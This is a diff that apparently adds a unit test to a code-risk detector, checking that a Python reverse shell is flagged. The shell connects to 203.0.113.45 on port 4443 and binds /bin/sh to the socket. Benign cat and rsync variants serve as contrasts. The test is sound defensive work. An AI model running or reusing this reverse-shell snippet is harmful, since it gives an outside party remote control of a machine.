@@ -53,5 +53,40 @@ dd if=/dev/zero of="$img" bs=4M count=1
   for (const auto& c : cases) check(c);
 }
 
+// A program path joined from a list ("/".join(cfg["prog"])) whose default
+// the configuration may replace (`cfg.update(json.load(fh))` when a file
+// exists): the list has two alternatives, and str.join had joined neither,
+// so a shell on a socket's descriptors went unseen. Each alternative is now
+// joined; the same wiring of cat, and a configured rsync, stay MEDIUM.
+TEST(HundredAndThirtySeventhRoundClasses, JoinOfListAlternativesJoinsEach) {
+  const char* shell = R"py(import json, os, socket, subprocess
+cfg = {"host": "203.0.113.45", "prog": ["/bin", "sh"]}
+if os.path.exists("relay.json"):
+    cfg.update(json.load(open("relay.json")))
+conn = socket.create_connection((cfg["host"], 4443))
+prog = "/".join(cfg["prog"])
+subprocess.Popen([prog, "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
+)py";
+  const char* cat = R"py(import json, os, socket, subprocess
+cfg = {"host": "203.0.113.45", "prog": ["/usr/bin", "cat"]}
+if os.path.exists("relay.json"):
+    cfg.update(json.load(open("relay.json")))
+conn = socket.create_connection((cfg["host"], 4443))
+prog = "/".join(cfg["prog"])
+subprocess.Popen([prog, "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
+)py";
+  const Case cases[] = {
+      {"a configurable shell joined from a list, on a socket", B, shell, "REVERSE-SHELL"},
+      {"the same wiring of cat", M, cat},
+      {"a configurable rsync joined from a list", M, R"py(import json, os, subprocess
+cfg = {"tool": ["/usr/bin", "rsync"]}
+if os.path.exists("tools.json"):
+    cfg.update(json.load(open("tools.json")))
+subprocess.run(["/".join(cfg["tool"]), "-a", "data/", "backup/"], check=True)
+)py"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
